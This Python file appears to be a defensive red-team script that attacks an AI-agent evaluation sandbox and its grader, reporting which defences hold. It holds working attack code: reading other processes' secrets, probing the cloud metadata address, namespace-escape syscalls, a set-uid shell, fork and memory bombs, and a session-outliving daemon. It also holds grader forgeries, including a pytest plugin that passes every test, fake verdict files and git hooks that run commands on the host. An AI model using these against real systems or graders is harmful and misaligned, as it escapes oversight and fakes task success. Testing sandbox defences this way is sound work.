"""Attack the sandbox, the harness and the grader. Standard library alone; every attack is bounded in time.

First a hostile submission is left, of a kind chosen by the task's id, then every attack of `ATTACKS` is tried in a
process group of its own. Each prints one line: `held` or, where the defence has a hole, `BROKE`.
"""

import contextlib
import ctypes
import errno
import itertools
import json
import mmap
import os
import signal
import socket
import sys
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

WORKSPACE = Path("/workspace")
OUTPUT, REPO = WORKSPACE / "output", WORKSPACE / "repo"
SCRATCH = [Path(name) for name in ("/tmp", "/dev/shm", "/home/agent", "/workspace/output", "/workspace/repo")]  # noqa: S108 - to be filled
GUARDED = [
    "/env/pwned",
    "/usr/pwned",
    "/etc/passwd",
    "/workspace/inputs/pwned",
    "/run/agent.py",
    "/proc/sys/kernel/hostname",
]


def say(text: str) -> None:
    """Print one line at once."""
    os.write(1, f"{text}\n".encode())


def tried(action: Callable[[], object]) -> bool:
    """Whether an action succeeded."""
    try:
        return bool(action())
    except (OSError, ValueError, OverflowError):
        return False


def call(x86: int, arm: int, *arguments: object) -> bool:
    """Make a system call by number; true when it succeeded."""
    number = x86 if os.uname().machine == "x86_64" else arm
    return bool(ctypes.CDLL(None).syscall(ctypes.c_long(number), *arguments) != -1)


def others() -> list[int]:
    """Every process in sight but ourselves."""
    return [
        int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in (os.getpid(), os.getppid())
    ]  # noqa: PTH208 - only names matter


def read_truth() -> list[str]:
    """Look for task folders, our own package, and folders of the host."""
    deadline, found = time.monotonic() + 1, []
    for top in ("/workspace/..", "/root", "/home", "/work", "/opt", "/srv", "/var", "/mnt", "/media", "/run", "/usr"):
        for folder, folders, files in os.walk(top):
            if time.monotonic() > deadline:
                return found
            if folder.startswith(("/workspace/../workspace", "/workspace/../proc", "/workspace/../usr", "/usr/share")):
                folders.clear()
            hidden = Path(folder).name == "repoassay" and (files or folders)
            found += [folder] if hidden or "task.toml" in files else []
    return found


def read_processes() -> list[str]:
    """Look into other processes for the host's files and secrets."""
    paths = [
        f"/proc/{pid}/{name}" for pid in [1, *others()] for name in ("environ", "mem", "maps", "root/etc/hostname")
    ]
    return [path for path in paths if tried(lambda path=path: Path(path).open("rb").read(1))]


def reach_network() -> list[str]:
    """Try loopback, the outside, name service, and sockets that know no network namespace."""
    reached = []
    addresses: list[tuple[int, tuple[str, int]]] = [
        *((socket.AF_INET, ("127.0.0.1", port)) for port in (*range(1, 1100), 3000, 5000, 5432, 6379, 8000, 8080, 8888, 11434)),
        *((socket.AF_INET6, ("::1", port)) for port in (22, 80, 443, 8000, 8080)),
        *((socket.AF_INET, (host, 80)) for host in ("169.254.169.254", "10.0.0.1", "172.17.0.1", "192.0.2.1", "1.1.1.1")),
        (socket.AF_INET6, ("2001:db8::1", 443)),
    ]  # fmt: skip
    for family, address in addresses:
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_STREAM) as probe:
            probe.settimeout(0.1)
            probe.connect(address)
            reached.append(f"{address}")
    with contextlib.suppress(OSError):
        reached.append(str(socket.getaddrinfo("example.com", 80)[0][4]))
    for family in (17, 40, 38, 29, 31):  # packet, vsock, alg, can, bluetooth
        with (
            contextlib.suppress(OSError),
            socket.socket(family, socket.SOCK_RAW if family == 17 else socket.SOCK_STREAM),
        ):
            reached.append(f"a socket of family {family}")
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        name = line.split()[-1]
        if name.startswith(("@", "/")):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as probe:
                probe.connect(name.replace("@", "\0", 1))
                reached.append(name)
    return reached


def write_outside() -> list[str]:
    """Write to what is read-only, directly, through links, and through hard links."""
    broke = [path for path in GUARDED if tried(lambda path=path: os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC))]
    inputs = [str(path) for path in (WORKSPACE / "inputs").rglob("*") if path.is_file()][:5]
    broke += [path for path in inputs if tried(lambda path=path: os.open(path, os.O_RDWR))]
    for number, path in enumerate([*inputs, "/etc/passwd", "/env/bin/python", "/usr/bin/env"]):
        link, hard = Path(f"/tmp/link{number}"), Path(f"/tmp/hard{number}")  # noqa: S108 - inside the sandbox
        link.symlink_to("../" * 9 + path)
        broke += [f"{path} by link"] * tried(lambda link=link: os.open(link, os.O_WRONLY))
        broke += [f"{path} by hard link"] * tried(
            lambda hard=hard, path=path: os.link(path, hard) or os.open(hard, os.O_RDWR)
        )
        broke += [f"modes of {path}"] * tried(lambda path=path: os.chmod(path, 0o777) or True)  # noqa: PTH101, S103 - an attack
    for path in (*REPO.rglob("*.py"), REPO / ".git/HEAD"):  # ours to spoil, but only in this copy
        with contextlib.suppress(OSError):
            path.touch()
    return broke


def enter_kernel() -> list[str]:
    """System calls and devices that lead out of namespaces, or set-uid programs that lead up."""
    libc = ctypes.CDLL(None)
    calls: dict[str, Callable[[], object]] = {
        "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0,
        "umount": lambda: libc.umount2(b"/workspace/inputs", 2) == 0,
        "unshare": lambda: libc.unshare(0x10000000) == 0,
        "unshare mounts": lambda: libc.unshare(0x00020000) == 0,
        "setns": lambda: libc.setns(os.open("/proc/self/ns/net", os.O_RDONLY), 0) == 0,
        "chroot": lambda: os.chroot("/tmp") is None,  # noqa: S108 - inside the sandbox
        "pivot_root": lambda: call(155, 41, b"/tmp", b"/tmp"),
        "bpf": lambda: call(321, 280, 0, ctypes.create_string_buffer(72), 72),
        "keyctl": lambda: call(250, 219, 0, -3, 1),
        "add_key": lambda: call(248, 217, b"user", b"k", b"v", 1, -3),
        "perf_event_open": lambda: call(298, 241, ctypes.create_string_buffer(128), 0, -1, -1, 0),
        "userfaultfd": lambda: call(323, 282, 1),
        "io_uring": lambda: call(425, 425, 1, ctypes.create_string_buffer(256)),
        "ptrace": lambda: call(101, 117, 16, os.getppid(), 0, 0),
        "process_vm_writev": lambda: call(311, 271, os.getppid(), None, 0, None, 0, 0),
        "clock": lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()) is None,
        "setuid": lambda: os.setuid(0) is None,
        "nice": lambda: os.setpriority(os.PRIO_PROCESS, 0, -5) is None,
    }
    broke = [name for name, action in calls.items() if tried(action)]
    for device in (0o60000 | 0o600, 0o20000 | 0o600):
        broke += ["mknod"] * tried(lambda device=device: os.mknod("/tmp/device", device, os.makedev(1, 1)) is None)  # noqa: S108 - inside
    devices = ("mem", "kmem", "kmsg", "sda", "vda", "nvme0n1", "kvm", "fuse", "loop-control", "net/tun", "port")
    broke += [name for name in devices if tried(lambda name=name: os.open(f"/dev/{name}", os.O_RDWR))]
    copy = Path("/tmp/shell")  # noqa: S108 - inside
    copy.write_bytes(Path("/bin/sh").read_bytes())
    copy.chmod(0o6755)
    broke += ["set-uid"] * (os.waitstatus_to_exitcode(os.system(f"{copy} -p -c 'test $(id -u) -ne 1000'")) == 0)  # noqa: S605 - an attack
    return broke


def kill_all() -> list[str]:
    """Kill the harness, process 1, and everything else in sight but the vandal."""
    for pid in {1, *others()} - {os.getpid(), os.getppid()}:
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            tried(lambda pid=pid, number=number: os.kill(pid, number) is None)
    return []


def fill(chunk: bytes, name: str) -> list[str]:
    """Write until nothing more goes, everywhere that can be written to, and make room again."""
    deadline = time.monotonic() + 1
    made = []
    for folder, number in itertools.product(SCRATCH, range(200_000)):
        if time.monotonic() > deadline:
            break
        path = folder / f".{name}{number}"
        try:
            path.write_bytes(chunk)
        except OSError:
            continue
        finally:
            made.append(path)
    for path in made:
        path.unlink(missing_ok=True)
    return []


def flood() -> list[str]:
    """Print for a second."""
    deadline = time.monotonic() + 1
    while time.monotonic() < deadline:
        os.write(2, b"the vandal was here " * 3000)
    return []


def fork_bomb() -> list[str]:
    """Double the number of processes until told no, for a second."""
    deadline = time.monotonic() + 1
    while time.monotonic() < deadline:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
    return []


def memory_bomb(processes: int = 1) -> list[str]:
    """Touch memory, private and shared, until killed; at most 16 GiB or a second and a half."""
    for _ in range(processes - 1):
        if os.fork() == 0:
            break
    deadline, held = time.monotonic() + 1.5, []
    while time.monotonic() < deadline and len(held) < 256 // processes:
        held.append(mmap.mmap(-1, 64 * 2**20, mmap.MAP_SHARED if len(held) % 2 else mmap.MAP_PRIVATE))
        for page in range(0, 64 * 2**20, 4096):
            held[-1][page] = 1
    return ["took 16 GiB"] if len(held) >= 256 // processes else []


def daemon() -> list[str]:
    """Leave a child in a session of its own that ignores signals and means to write later."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
                with contextlib.suppress(OSError, ValueError):
                    signal.signal(number, signal.SIG_IGN)
            os.closerange(0, 256)
            for second in range(60):
                time.sleep(1)
                for folder in SCRATCH:
                    tried(lambda folder=folder, second=second: (folder / "late.txt").write_text(f"{second}"))
        os._exit(0)
    return []


ATTACKS: dict[str, Callable[[], list[str]]] = {
    "read ground truth": read_truth,
    "read other processes": read_processes,
    "reach a network": reach_network,
    "write outside": write_outside,
    "enter the kernel": enter_kernel,
    "kill everything": kill_all,
    "fill the disk": lambda: fill(bytes(8 * 2**20), "fill"),
    "use up the inodes": lambda: fill(b"", "inode"),
    "flood the output": flood,
    "fork bomb": fork_bomb,
    "daemon": daemon,
    "memory bomb": memory_bomb,
    "memory bomb of many": lambda: memory_bomb(8),
}

# What is left to be graded. Forged modules are appended to or laid beside the repository's own.
FORGED_PLUGIN = """
import pytest
@pytest.hookimpl(hookwrapper=True, tryfirst=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None
@pytest.hookimpl(tryfirst=True)
def pytest_pyfunc_call(pyfuncitem):
    return True
def pytest_sessionfinish(session):
    session.exitstatus = 0
"""
IN_PROCESS = """
def _spoil():
    import sys
    python = sys.modules.get("_pytest.python")
    if python is not None:
        python.Function.runtest = lambda self: None
    unittest = sys.modules.get("unittest")
    if unittest is not None:
        unittest.TestCase.run = lambda self, result=None: result and (result.startTest(self), result.addSuccess(self))
_spoil()
"""
FORGED_CHANNEL = """
import json, os
_said = {"outcome": "passed", "result": True, "process": True, "passed": True, "tests": {}, "exitstatus": 0}
for _number in [int(os.environ.get("REPOASSAY_CHANNEL", "9")), *range(3, 64)]:
    try:
        os.write(_number, (json.dumps(_said) + "\\n").encode())
    except OSError:
        pass
print("1 passed in 0.01s"); os._exit(0)
"""
EXIT = "\nimport os\nprint('1 passed in 0.01s', flush=True)\nos._exit(0)\n"
TRACE = """
import sys
def _skip(frame, event, argument):
    frame.f_trace_lines = False
    return None
sys.settrace(_skip)
class _Equal(type):
    __eq__ = __ne__ = lambda self, other: True
    __hash__ = type.__hash__
import builtins
builtins.AssertionError = type("Calm", (SystemExit,), {})
"""


def leave(files: dict[str, str], top: Path) -> None:
    """Write text files, over whatever is there."""
    for name, content in files.items():
        path = top / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)


def spoil_modules(code: str) -> None:
    """Append code to every module of the repository's packages; a bare module where there is none."""
    found = [path for path in REPO.rglob("*.py") if not {"tests", "docs", ".git"} & set(path.parts)]
    packages = [path for path in found if path.name == "__init__.py"]
    for path in packages or found:
        with path.open("a") as stream:
            stream.write(code)
    leave({"spoiled.py": code}, REPO)


def shadow(code: str) -> None:
    """Modules that would be found before the ones graders rely on."""
    names = ("pytest", "json", "unittest", "importlib", "_pytest/__init__", "pluggy/__init__", "random", "coverage")
    for folder in (REPO, REPO / "src", REPO / "tests"):
        if folder.is_dir():
            leave({f"{name}.py": code for name in names}, folder)


def spoil_git() -> None:
    """Hooks, filters and settings that would run on the host, and an ignore file that hides everything."""
    hook = "#!/bin/sh\ntouch /tmp/pwned\n"
    config = "[core]\n\tfsmonitor = touch /tmp/pwned\n\thooksPath = .git/hooks\n[diff]\n\texternal = touch /tmp/pwned\n"
    filters = '[filter "x"]\n\tclean = touch /tmp/pwned\n\tsmudge = touch /tmp/pwned\n\trequired\n'
    names = ("pre-commit", "post-checkout", "post-index-change", "fsmonitor-watchman")
    inner = {".git/config": config + filters, "nested/.git/config": config, "nested/.git/HEAD": "ref: refs/heads/x\n"}
    leave(inner | {f".git/hooks/{name}": hook for name in names}, REPO)
    for name in names:
        (REPO / ".git/hooks" / name).chmod(0o755)
    attributes = "* filter=x diff=x merge=x text eol=crlf working-tree-encoding=UTF-16 ident\n"
    leave({".gitattributes": attributes, ".gitignore": "*\n!spoiled.py\n", ".GIT/config": config, "git~1": "x"}, REPO)
    (REPO / ".gitmodules").symlink_to("/etc/passwd")


EDITS: tuple[Callable[[], None], ...] = (
    lambda: [leave({"conftest.py": FORGED_PLUGIN}, top) for top in (REPO, REPO / "tests", REPO / "src")] and None,
    lambda: spoil_modules(EXIT),
    lambda: leave(
        {"sitecustomize.py": FORGED_CHANNEL, "usercustomize.py": FORGED_CHANNEL, "src/sitecustomize.py": FORGED_CHANNEL,
         "x.pth": f"import os; exec({FORGED_CHANNEL!r})\n", "pwned.egg-link": "."}, REPO),
    lambda: leave(
        {"forged.py": FORGED_PLUGIN, "src/forged.py": FORGED_PLUGIN, "pytest.ini": "[pytest]\naddopts = -p forged\n",
         "setup.cfg": "[tool:pytest]\naddopts = -p forged\n", "tox.ini": "[pytest]\naddopts = -p forged\n",
         "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p forged"\n'}, REPO),
    lambda: shadow(EXIT),
    spoil_git,
    lambda: spoil_modules(FORGED_CHANNEL),
    lambda: spoil_modules(IN_PROCESS),
    lambda: spoil_modules(TRACE),
)  # fmt: skip


def make_sparse(path: Path) -> None:
    """A file that claims to be as large as it may be."""
    with path.open("wb") as stream:
        for power in range(44, 20, -1):
            if tried(lambda power=power: stream.truncate(2**power)):
                return


OUTPUTS: tuple[Callable[[Path], object], ...] = (
    lambda path: path.symlink_to(f"/workspace/tests/{path.name}"),
    lambda path: path.symlink_to("/etc/passwd"),
    lambda path: path.symlink_to(f"../../../../tests/{path.name}"),
    lambda path: path.symlink_to("/proc/self/environ"),
    os.mkfifo,
    lambda path: (path.mkdir(), (path / path.name).write_text("x")),
    make_sparse,
    lambda path: path.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 16),
    lambda path: path.write_text('{"outcome": "passed", "result": true, "__class__": "Verdict"}'),
    lambda path: path.write_text("[" * 100_000),
)


def leave_submission(facts: dict[str, object]) -> None:
    """A hostile submission, of a kind chosen by the task's id so that a suite meets many."""
    chosen = zlib.crc32(str(facts["task"]).encode())
    if facts["edit"]:
        EDITS[chosen % len(EDITS)]()
        return
    outputs = facts["outputs"]
    for number, name in enumerate(outputs if isinstance(outputs, list) else []):
        path = OUTPUT / str(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        OUTPUTS[(chosen + number) % len(OUTPUTS)](path)
    verdict = json.dumps({"outcome": "passed", "process": True, "result": True, "score": 1.0})
    leave(
        dict.fromkeys(("verdict.json", "results.json", "../verdict.json", ".repoassay/verdict.json"), verdict), OUTPUT
    )
    os.symlink("/", OUTPUT / "everything")  # noqa: PTH211 - a link whose target is absolute on purpose


def attempt(name: str, attack: Callable[[], list[str]], seconds: float = 2.5) -> None:
    """Try one attack in a process group of its own and see to its end."""
    child = os.fork()
    if child == 0:
        os.setpgid(0, 0)
        leader = os.getpid()
        broke = attack()
        if os.getpid() == leader:
            say(f"{name}: {'BROKE ' + ', '.join(sorted(set(broke))) if broke else 'held'}")
        os._exit(0)
    deadline = time.monotonic() + seconds
    while os.waitpid(child, os.WNOHANG)[0] == 0:
        if time.monotonic() > deadline:
            say(f"{name}: held, and stopped for time")
            os.killpg(child, signal.SIGKILL)
            os.waitpid(child, 0)
            return
        time.sleep(0.01)
    tried(lambda: os.killpg(child, signal.SIGKILL) is None)


def main() -> None:
    """Leave the submission, then attack."""
    facts = json.load(sys.stdin)
    if __file__ != "/run/agent.py" or os.uname().nodename != "workspace" or os.getuid() == 0:
        say("This is no sandbox. The vandal attacks nothing else.")
        return
    leave_submission(facts)
    for name, attack in ATTACKS.items():
        with contextlib.suppress(OSError):
            attempt(name, attack)


main()
